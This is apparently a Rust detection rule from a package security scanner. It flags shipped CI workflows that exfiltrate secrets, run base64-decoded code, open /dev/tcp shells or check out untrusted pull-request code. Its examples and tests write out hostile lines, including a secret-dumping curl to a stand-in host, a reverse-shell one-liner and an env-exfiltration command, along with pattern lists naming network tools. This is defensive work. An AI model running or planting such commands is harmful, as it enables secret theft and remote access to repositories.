//! A shipped workflow takes secrets or runs code that it fetches or decodes.

use super::{Context, Declaration, Example, Finding};
use crate::api::targets;
use crate::findings::host;
use crate::model::{Confidence, FileId, Reach, Severity, Span, Trigger};
use crate::tool::Act;
use crate::value::Place;

pub(super) static FINDING: Declaration = Declaration {
    id: "workflow-abuse",
    title: "Ships a workflow that takes secrets or runs hidden code",
    severity: Severity::High,
    summary: "A workflow for continuous integration that comes with the package turns all secrets into text, runs decoded text, talks to an IP address instead of a name, or runs a stranger's code with secrets at hand. Installing the package does not run it: it runs in a repository into which somebody copies it.",
    advice: "Read the workflow before you copy it into a repository. If it already ran there, revoke the repository's secrets.",
    benign_when: "A workflow needs secrets by names that it does not know, as matrix jobs of a deployment tool do.",
    references: &["CWE-506", "CWE-522", "T1552", "T1195.002"],
    examples: &[
        Example {
            name: "all secrets are sent away",
            severity: Some(Severity::High),
            files: &[
                ("package.json", r#"{"name":"a","version":"1.0.0"}"#),
                (
                    ".github/workflows/ci.yml",
                    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env: { ALL: \"${{ toJSON(secrets) }}\" }\n        run: curl -d \"$ALL\" https://collect.invalid\n",
                ),
            ],
        },
        Example {
            name: "decoded text goes into a shell",
            severity: Some(Severity::High),
            files: &[
                ("package.json", r#"{"name":"a","version":"1.0.0"}"#),
                (
                    ".github/workflows/ci.yml",
                    "on: push\njobs:\n  a:\n    steps:\n      - run: echo ZWNobyBoaQo= | base64 -d | bash\n",
                ),
            ],
        },
        Example {
            name: "a tool writes a workflow that sends all secrets",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs");
const steps = { env: { ALL: "@{toJSON(secrets)}" }, run: "echo $ALL | curl -d @- https://collect.invalid/" };
exports.write = (dir) => fs.writeFileSync(dir + "/.github/workflows/lint.yml", JSON.stringify({ on: "push", jobs: { lint: { steps: [steps] } } }).replace("@{", "${{ "));"#,
                ),
            ],
        },
        Example {
            name: "tests and a publication with one token",
            severity: None,
            files: &[
                ("package.json", r#"{"name":"a","version":"1.0.0"}"#),
                (
                    ".github/workflows/ci.yml",
                    "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n      - run: npm publish\n        env: { NODE_AUTH_TOKEN: \"${{ secrets.NPM_TOKEN }}\" }\n",
                ),
            ],
        },
        Example {
            name: "a pull request's code is checked out with secrets at hand",
            severity: Some(Severity::Medium),
            files: &[
                ("package.json", r#"{"name":"a","version":"1.0.0"}"#),
                (
                    ".github/workflows/ci.yml",
                    "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: { ref: \"${{ github.event.pull_request.head.sha }}\" }\n      - run: npm ci\n",
                ),
            ],
        },
    ],
    detect,
};

const TOOLS: [&str; 5] = [
    "circleci",
    "github-action",
    "github-workflows",
    "gitlab-ci",
    "travis",
];

/// Code writes workflows, and holds the words that turn all secrets into text.
fn of_code(context: &Context<'_>, found: &mut Vec<Finding>) {
    const FOLDER: &str = "/.github/workflows";
    const WORDS: [&[u8]; 2] = [b"toJSON(secrets)", b"toJson(secrets)"];
    let mut writes = context.behaviours.iter().filter(|one| {
        let target = one.target.as_deref().unwrap_or("");
        one.what.id == "fs.write" && target.contains(FOLDER) && !target.starts_with("<package>")
    });
    let Some(first) = writes.next() else { return };
    let entries = context.archive.entries.iter().zip(0..);
    let holder = entries
        .filter(|(entry, _)| is_code(&entry.path))
        .find_map(|(entry, at)| {
            let text = context.archive.buffer.get(entry.range.clone())?;
            let place = WORDS
                .iter()
                .find_map(|words| memchr::memmem::find(text, words))?;
            let start = u32::try_from(place).ok()?;
            Some(Place {
                file: FileId(at),
                span: Span::new(start, start + 1),
            })
        });
    let Some(holder) = holder else { return };
    let path = first.target.as_deref().unwrap_or("a workflow");
    let message = format!("writes {path}, and holds words that turn all secrets into text");
    let mut finding = Finding::of_behaviour(&FINDING, first, message);
    finding
        .evidence
        .extend(writes.flat_map(|one| one.sites.iter().copied()));
    finding.evidence.push(holder);
    finding.evidence.sort_unstable();
    finding.evidence.dedup();
    found.push(finding);
}

/// Code holds a workflow that turns all secrets into text, to write it wherever it can.
fn of_texts(context: &Context<'_>, found: &mut Vec<Finding>) {
    const FOLDER: &[u8] = b".github/workflows/";
    const WORDS: [&[u8]; 2] = [b"toJSON(secrets)", b"toJson(secrets)"];
    for (entry, at) in context.archive.entries.iter().zip(0..) {
        let file = FileId(at);
        let is_known = found
            .iter()
            .any(|one| one.evidence.iter().any(|site| site.file == file));
        let is_script = is_code(&entry.path) && !entry.path.ends_with(".json");
        if is_known || !is_script {
            continue;
        }
        let text = context.archive.bytes(file);
        let words = WORDS
            .iter()
            .find_map(|words| memchr::memmem::find(text, words));
        let (Some(place), Some(_)) = (words, memchr::memmem::find(text, FOLDER)) else {
            continue;
        };
        let reach = reach_of(context, file);
        if reach.is_dormant() {
            continue;
        }
        let start = u32::try_from(place).unwrap_or(u32::MAX);
        let span = Span::new(start, start.saturating_add(1));
        found.push(Finding {
            what: &FINDING,
            severity: Severity::High,
            confidence: Confidence::Medium,
            message: format!(
                "{}: holds a workflow that turns all secrets into text",
                entry.path
            ),
            reach,
            evidence: vec![Place { file, span }],
            mitigations: Vec::new(),
            parts: vec![entry.path.to_string()],
        });
    }
}

/// On which surfaces something of a file runs, as its behaviours tell.
fn reach_of(context: &Context<'_>, file: FileId) -> Reach {
    let mut reach = Reach::DORMANT;
    for one in context.behaviours {
        if one.sites.iter().any(|site| site.file == file) {
            reach.join(one.reach);
        }
    }
    for surface in context
        .surfaces
        .iter()
        .filter(|one| one.entries.contains(&file))
    {
        reach.join(Reach::of(surface.kind, surface.trigger));
    }
    reach
}

fn is_code(path: &str) -> bool {
    matches!(
        path.rsplit_once('.'),
        Some((_, "js" | "cjs" | "mjs" | "ts" | "json"))
    )
}

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    of_code(context, found);
    of_texts(context, found);
    for door in context
        .doors
        .iter()
        .filter(|door| TOOLS.contains(&door.tool))
    {
        for act in &door.acts {
            let Some((severity, message)) = judge(act) else {
                continue;
            };
            found.push(Finding {
                what: &FINDING,
                severity,
                confidence: Confidence::High,
                message: format!("{}: {message}", door.path(context.archive)),
                reach: door.reach(Trigger::Call),
                evidence: vec![Place {
                    file: door.file,
                    span: act.span,
                }],
                mitigations: Vec::new(),
                parts: vec![act.does.to_owned(), act.target.clone()],
            });
        }
    }
}

fn judge(act: &Act) -> Option<(Severity, String)> {
    match act.does {
        "ci.secrets" => Some((
            Severity::High,
            format!("all secrets become text: {}", act.target),
        )),
        "ci.untrusted-checkout" => Some((
            Severity::Medium,
            format!("{} checks out a stranger's code: {}", act.event, act.target),
        )),
        "ci.injection" => Some((
            Severity::Low,
            format!("a stranger's text is pasted into a script: {}", act.target),
        )),
        "process.exec" => of_script(&act.target),
        _ => None,
    }
}

/// A script, line by line.
fn of_script(script: &str) -> Option<(Severity, String)> {
    for line in script.lines() {
        let plain = line.to_ascii_lowercase();
        let runs = [
            "| bash", "| sh", "|bash", "|sh", "| node", "| python", "eval ", "bash -c",
        ]
        .iter()
        .any(|sign| plain.contains(sign));
        let decodes = [
            "base64 -d",
            "base64 --decode",
            "xxd -r",
            "openssl enc -d",
            "base64 -di",
        ]
        .iter()
        .any(|sign| plain.contains(sign));
        if runs && decodes {
            return Some((
                Severity::High,
                format!("decoded text is run: {}", line.trim()),
            ));
        }
        if plain.contains("/dev/tcp/") {
            return Some((
                Severity::High,
                format!("a shell is connected: {}", line.trim()),
            ));
        }
        let sends = ["curl ", "wget ", "nc ", "ncat "]
            .iter()
            .any(|word| plain.contains(word));
        let everything = ["$(env)", "`env`", "env |", "printenv |", "$(printenv)"]
            .iter()
            .any(|sign| plain.contains(sign));
        if sends && everything {
            return Some((
                Severity::High,
                format!("the environment is sent: {}", line.trim()),
            ));
        }
        if sends && let Some(at) = bare_address(line) {
            return Some((
                Severity::High,
                format!("talks to an IP address without a name: {at}"),
            ));
        }
    }
    None
}

/// A public address instead of a name, in a word of a line.
fn bare_address(line: &str) -> Option<&str> {
    line.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')'))
        .find(|word| {
            let at = host::host(word).filter(|at| at.contains('.'));
            at.is_some_and(|at| {
                targets::address(&at).is_some() && at.matches('.').count() == 3 && is_public(&at)
            })
        })
}

fn is_public(host: &str) -> bool {
    let local = ["127.", "10.", "192.168.", "0.0.0.0", "169.254."];
    !host::is_local(host) && !local.iter().any(|start| host.starts_with(start))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_are_usual_stay_quiet() {
        for line in [
            "npm ci",
            "curl -Os https://uploader.example/linux/codecov",
            "curl http://127.0.0.1:8080/health",
            "echo \"$KEY\" | base64 -d > key.json",
            "env | sort",
            "node -v",
        ] {
            assert_eq!(of_script(line), None, "{line}");
        }
        for line in [
            "curl -d @x http://192.0.2.7:8443/c",
            "echo x | base64 -d | bash",
            "curl -d \"$(env)\" https://collect.invalid",
            "bash -i >& /dev/tcp/collect.invalid/1 0>&1",
        ] {
            assert!(of_script(line).is_some(), "{line}");
        }
    }
}
